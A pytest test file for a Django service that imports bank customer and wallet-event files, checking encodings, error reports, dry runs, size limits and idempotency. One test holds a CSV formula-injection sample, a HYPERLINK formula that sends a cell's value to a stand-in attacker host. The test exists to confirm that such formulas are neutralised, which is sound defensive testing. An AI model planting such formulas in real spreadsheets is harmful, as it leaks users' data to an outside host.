"""Bank files imported end to end (store, map, run) from the real files under tests/data/imports."""

import csv
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.utils import translation

from accounts.models import ConsentRecord, Customer, WalletEvent
from imports import services
from imports.models import ImportJob
from imports.reading import ImportFileError
from tests import factories

pytestmark = pytest.mark.django_db

DATA = Path(__file__).resolve().parent.parent / "data" / "imports"


@pytest.fixture(autouse=True)
def import_dir(settings, tmp_path):
    settings.IMPORT_DIR = tmp_path / "imports"
    return settings.IMPORT_DIR


@pytest.fixture(autouse=True)
def in_english(settings):
    """Reasons are asserted in English: imports run in their uploader's language, else the site's."""
    settings.LANGUAGE_CODE = "en"
    with translation.override("en"):
        yield


@pytest.fixture(autouse=True)
def no_planning(monkeypatch):
    """Events queue their follow-up planning after commit; these tests only count what was stored."""
    from surveys import tasks

    queued = []
    monkeypatch.setattr(tasks, "request_event_planning", lambda: queued.append(True))
    return queued


def upload(name: str, kind: str = "customers", by=None) -> ImportJob:
    path = DATA / name
    with path.open("rb") as file:
        return services.store_upload(file=file, name=name, size=path.stat().st_size, kind=kind, by=by)


def run(name: str, kind: str = "customers", *, mapping=None, dry_run=False, all_or_nothing=False, by=None):
    job = upload(name, kind, by)
    job = services.prepare_import(
        job=job, mapping=mapping or job.mapping, dry_run=dry_run, all_or_nothing=all_or_nothing
    )
    return services.run_import(job_id=job.pk)


def rerun(job: ImportJob, **options) -> ImportJob:
    options = {"dry_run": False, "all_or_nothing": False, **options}
    return services.run_import(job_id=services.prepare_import(job=job, mapping=job.mapping, **options).pk)


def report_rows(job: ImportJob) -> list[list[str]]:
    with services.report_path(job).open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))[1:]


def counts(job: ImportJob) -> tuple:
    return (job.created_count, job.updated_count, job.unchanged_count, job.error_rows)


@pytest.mark.parametrize("name", ["customers-utf8.csv", "customers-utf8-bom.csv"])
def test_a_utf8_file_with_or_without_bom_imports_its_customers(name):
    job = run(name)
    assert job.status == "done" and counts(job) == (3, 0, 0, 0)
    wang = Customer.objects.get(bank_reference="C1001")  # the BOM is not part of the first header
    assert (wang.name, wang.phone, wang.language) == ("Wang Fang", "+8613800138000", "zh-hans")
    assert str(wang.enrolled_on) == "2026-03-01"
    assert Customer.objects.get(bank_reference="C1003").name == "张伟"


def test_a_gb18030_file_with_chinese_headers_is_read_and_mapped():
    job = upload("customers-gb18030.csv")
    assert job.encoding == "gb18030"
    assert job.mapping == {"客户号": "bank_reference", "姓名": "name", "手机号": "phone", "邮箱": "email",
                           "语言": "language", "时区": "time_zone", "短信退订": "sms_opt_out"}  # fmt: skip
    job = rerun(job)
    assert counts(job) == (2, 0, 0, 0)
    assert Customer.objects.get(bank_reference="C2002").time_zone == "Asia/Urumqi"


def test_an_excel_workbook_imports_and_reports_its_bad_row():
    job = run("customers.xlsx")
    assert counts(job) == (2, 0, 0, 1)
    zhao, zhou = Customer.objects.get(bank_reference="C6001"), Customer.objects.get(bank_reference="C6002")
    assert (zhao.phone, str(zhao.enrolled_on)) == ("+8613800138010", "2026-03-01")
    assert str(zhou.enrolled_on) == "2026-03-01"  # an Excel date serial
    assert zhou.sms_opt_out_at is not None and zhou.email_opt_out_at is not None
    # The empty row 4 is skipped; the bad one is row 5 as Excel numbers it.
    assert report_rows(job) == [["5", "手机号", "12", "Not a valid phone number."]]


def test_bad_rows_are_reported_by_row_column_value_and_reason_and_the_good_rows_imported():
    job = run("customers-broken.csv")
    assert counts(job) == (2, 0, 0, 4)
    assert set(Customer.objects.values_list("bank_reference", flat=True)) == {"C3001", "C3006"}
    assert report_rows(job) == [
        ["3", "phone", "12345", "Not a valid phone number."],
        ["4", "email", "not-an-address", "Not a valid e-mail address."],
        ["4", "language", "klingon", "Unknown language; use zh (Simplified Chinese) or en (English)."],
        ["5", "bank_reference", "", "This column is required."],
        ["6", "", "", "This row has 6 cells; the header has 5."],
    ]
    assert job.error_sample[0] == [3, "phone", "12345", "Not a valid phone number."]


def test_a_reference_twice_in_the_file_imports_the_first_and_reports_the_second():
    job = run("customers-duplicates.csv")
    assert counts(job) == (2, 0, 0, 1)
    assert Customer.objects.get(bank_reference="C4001").name == "First"
    assert report_rows(job) == [["4", "bank_reference", "C4001", "The same reference is already in row 2."]]


def test_formula_cells_are_stored_as_plain_text():
    job = run("customers-formulas.csv")
    assert counts(job) == (2, 0, 0, 0)
    first = Customer.objects.get(bank_reference="C5001")
    assert first.name == '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    assert (first.segment, first.wallet_product) == ("+gold", "@SUM(A1:A9)")
    assert Customer.objects.get(bank_reference="C5002").segment == "=1+1"


def test_formula_values_are_neutralised_in_the_error_report():
    mapping = {"bank_reference": "bank_reference", "name": "name", "segment": "language"}
    job = run("customers-formulas.csv", mapping=mapping)
    assert [row[2] for row in report_rows(job)] == ["'+gold", "'=1+1"]


def test_importing_the_same_file_again_changes_nothing():
    first = run("customers-utf8.csv")
    records = ConsentRecord.objects.count()
    stamps = dict(Customer.objects.values_list("bank_reference", "updated_at"))
    again = run("customers-utf8.csv")
    assert counts(first) == (3, 0, 0, 0)
    assert counts(again) == (0, 0, 3, 0)
    assert ConsentRecord.objects.count() == records
    assert dict(Customer.objects.values_list("bank_reference", "updated_at")) == stamps


def test_opt_out_columns_become_consent_evidence_from_the_import(manager):
    job = run("customers-utf8.csv", by=manager)
    li = Customer.objects.get(bank_reference="C1002")
    record = li.consent_records.get()
    assert (record.kind, record.channel, record.source, record.recorded_by) == ("opt_out", "sms", "import", manager)
    assert record.reference == f"import {job.pk}: customers-utf8.csv"
    zhang = Customer.objects.get(bank_reference="C1003")
    assert zhang.do_not_contact_at == datetime(2026, 2, 1, tzinfo=ZoneInfo("Asia/Shanghai"))
    assert zhang.consent_records.get().kind == ConsentRecord.Kind.DO_NOT_CONTACT
    assert job.decisions == 2


def test_a_dry_run_reports_what_would_happen_and_writes_nothing():
    factories.CustomerFactory(bank_reference="C3001", name="Old name")
    job = run("customers-broken.csv", dry_run=True)
    assert counts(job) == (1, 1, 0, 4)
    assert Customer.objects.get().name == "Old name"
    assert not ConsentRecord.objects.exists()


def test_a_dry_run_can_then_be_imported_for_real():
    job = run("customers-utf8.csv", dry_run=True)
    assert not Customer.objects.exists()
    job = rerun(job)
    assert counts(job) == (3, 0, 0, 0)
    assert not services.upload_path(job).exists()  # the bank's file is not kept once imported


def test_all_or_nothing_imports_nothing_when_a_row_is_bad():
    job = run("customers-broken.csv", all_or_nothing=True)
    assert job.status == "done"
    assert counts(job) == (0, 0, 0, 4)
    assert not Customer.objects.exists()


def test_all_or_nothing_imports_everything_when_every_row_is_good():
    job = run("customers-utf8.csv", all_or_nothing=True)
    assert counts(job) == (3, 0, 0, 0) and job.percent == 100
    assert Customer.objects.count() == 3


@pytest.mark.parametrize(
    "name, message",
    [
        ("not-a-table.csv", "This file is not a table: it holds binary data, not text."),
        ("not-a-table.xlsx", "This file is not a readable Excel workbook."),
    ],
)
def test_a_file_that_is_not_a_table_gets_one_clear_error_and_is_not_kept(name, message, import_dir):
    with pytest.raises(ImportFileError, match=message):
        upload(name)
    assert not ImportJob.objects.exists()
    assert not any(import_dir.iterdir())


def test_a_file_without_the_required_columns_cannot_be_started():
    job = upload("customers-missing-columns.csv")
    with pytest.raises(ValidationError) as raised:
        services.prepare_import(job=job, mapping=job.mapping, dry_run=False, all_or_nothing=False)
    assert raised.value.messages == ["No column holds the required fields: Bank reference, Name."]
    assert ImportJob.objects.get().status == "uploaded"


def test_a_file_over_the_limit_is_refused_before_it_is_read(settings):
    settings.IMPORT_MAX_BYTES = 100
    with pytest.raises(ImportFileError, match="the largest file accepted is 100.bytes"):
        upload("customers-utf8.csv")
    assert not ImportJob.objects.exists()


def test_a_50_mb_file_over_a_50_mb_limit_is_refused_naming_both_sizes_in_bytes(settings, tmp_path):
    settings.IMPORT_MAX_BYTES = 50_000_000
    big = tmp_path / "big.csv"
    with big.open("w") as file:
        file.write("bank_reference,name\n")
        line = "C0000001,A customer with a rather long name to fill the file quickly\n"
        file.write(line * (50_000_001 // len(line) + 1))
    with big.open("rb") as file, pytest.raises(ImportFileError, match="the largest file accepted is 50000000 bytes"):
        services.store_upload(file=file, name="big.csv", size=big.stat().st_size, kind="customers", by=None)
    assert not Customer.objects.exists()


def test_a_job_is_run_once_even_if_the_task_arrives_twice():
    job = upload("customers-utf8.csv")
    services.prepare_import(job=job, mapping=job.mapping, dry_run=False, all_or_nothing=False)
    assert services.run_import(job_id=job.pk) is not None
    assert services.run_import(job_id=job.pk) is None
    with pytest.raises(ValidationError):
        services.prepare_import(job=job, mapping=job.mapping, dry_run=False, all_or_nothing=False)


def test_wallet_events_import_once_with_their_zones(no_planning, django_capture_on_commit_callbacks):
    factories.CustomerFactory(bank_reference="C1001")
    factories.CustomerFactory(bank_reference="C1002")
    with django_capture_on_commit_callbacks(execute=True):
        job = run("events.csv", "events")
    assert counts(job) == (3, 0, 0, 2)
    assert WalletEvent.objects.get(bank_reference="E9002").kind == "account_locked"
    shanghai = ZoneInfo("Asia/Shanghai")
    assert WalletEvent.objects.get(bank_reference="E9002").occurred_at == datetime(2026, 3, 1, 10, 15, tzinfo=shanghai)
    assert WalletEvent.objects.get(bank_reference="E9003").occurred_at == datetime(2026, 3, 1, 9, 0, tzinfo=shanghai)
    assert [row[:3] for row in report_rows(job)] == [["5", "客户号", "NOBODY"], ["6", "事件类型", "teleportation"]]
    assert len(no_planning) == 3

    with django_capture_on_commit_callbacks(execute=True):
        again = run("events.csv", "events")
    assert counts(again) == (0, 0, 3, 2)
    assert WalletEvent.objects.count() == 3 and len(no_planning) == 3


def test_the_command_imports_and_says_where_the_report_is(capsys):
    call_command("import_customers", str(DATA / "customers-broken.csv"))
    out = capsys.readouterr().out
    assert "2 were created, 0 updated, 0 unchanged; 4 rows with errors" in out
    assert "Error report: " in out and Path(out.split("Error report: ")[1].strip()).exists()


def test_the_command_maps_columns_and_dry_runs(capsys):
    call_command(
        "import_customers", str(DATA / "customers-missing-columns.csv"), "--dry-run",
        "--map", "phone=bank_reference", "--map", "email=name",
    )  # fmt: skip
    assert "1 would be created" in capsys.readouterr().out
    assert not Customer.objects.exists()


def test_the_command_refuses_a_file_without_required_columns():
    with pytest.raises(CommandError, match="No column holds the required fields"):
        call_command("import_customers", str(DATA / "customers-missing-columns.csv"))


def test_the_events_command_is_idempotent(capsys):
    factories.CustomerFactory(bank_reference="C1001")
    factories.CustomerFactory(bank_reference="C1002")
    call_command("import_events", str(DATA / "events.csv"), "--all-or-nothing")
    assert "Nothing was imported" in capsys.readouterr().out
    assert not WalletEvent.objects.exists()
